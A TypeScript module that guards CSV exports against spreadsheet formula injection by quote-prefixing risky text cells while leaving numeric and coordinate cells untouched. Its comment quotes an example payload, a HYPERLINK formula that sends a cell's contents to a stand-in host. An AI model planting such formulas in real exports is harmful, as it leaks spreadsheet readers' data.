/**
 * Cells of a CSV a spreadsheet may open (docs/security.md, "Numbers, formulas and names").
 * Excel, LibreOffice and Google Sheets read a CSV cell that starts with `=`, `+`, `-` or `@`
 * (also after a tab or a carriage return) as a formula: an answer `=HYPERLINK("http://x?"&A1)`
 * would run in the reader's spreadsheet. Such a cell is written with a `'` in front, which the
 * spreadsheet shows as text. A cell made only of numbers is left as it is: a plain number (`-5`,
 * `+3`, `-1.5e3`) or numbers separated by spaces and semicolons, as ODK writes a geopoint
 * (`-1.29 36.82 1700 5`) or a geotrace/geoshape: such a cell names no function, reference or
 * program, so it can run nothing, and a program reading the CSV gets the coordinates of the
 * southern and western hemispheres exactly as stored. Numbers the exporter writes as numbers
 * (`_id`, split choice columns) are never touched.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const NUMBER = '[-+]?(?:\\d+(?:\\.\\d*)?|\\.\\d+)(?:[eE][-+]?\\d+)?';
/** One number, or numbers separated by spaces and semicolons (linear: each step consumes a separator). */
const ONLY_NUMBERS = new RegExp(`^${NUMBER}(?:[ ;]+${NUMBER})*;?$`);

/** `text` as a cell no spreadsheet reads as a formula. */
export function inertText(text: string): string {
  return FORMULA_START.test(text) && !ONLY_NUMBERS.test(text) ? `'${text}` : text;
}

/** A row of cells with every text cell made inert; numbers, null and undefined as they are. */
export function inertRow<T>(row: T[]): T[] {
  return row.map((v) => (typeof v === 'string' ? (inertText(v) as T) : v));
}

/** The row writer of an export: inertRow, or the cells as they are when the caller opted out (`escape_formulas=false`). */
export function formulaGuard(escape: boolean | undefined): <T>(row: T[]) => T[] {
  return escape === false ? (row) => row : inertRow;
}
